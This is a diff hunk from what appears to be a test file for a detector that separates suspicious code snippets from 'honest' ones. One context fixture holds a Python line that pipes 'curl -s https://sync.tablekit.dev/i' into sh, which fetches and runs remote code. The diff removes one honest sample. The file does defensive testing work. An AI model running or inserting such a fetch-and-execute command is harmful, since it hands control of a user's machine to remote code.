@@ -70,7 +70,6 @@ it('parses only what has a source and something that its data could go into', ()
     'import subprocess\nsubprocess.run("curl -s https://sync.tablekit.dev/i | sh", shell=True)',
   ]
   const honest: readonly string[] = [
-    'import os, requests\nrequests.get("https://api.openai.com/v1", headers={"Authorization": os.environ["OPENAI_API_KEY"]})',
     'import subprocess\nsubprocess.run(["git", "status"])',
     'import base64\nprint(base64.b64decode("cHJpbnQoMSk="))',
     'const found = /a/.exec(await (await fetch("https://api.openai.com")).text())',
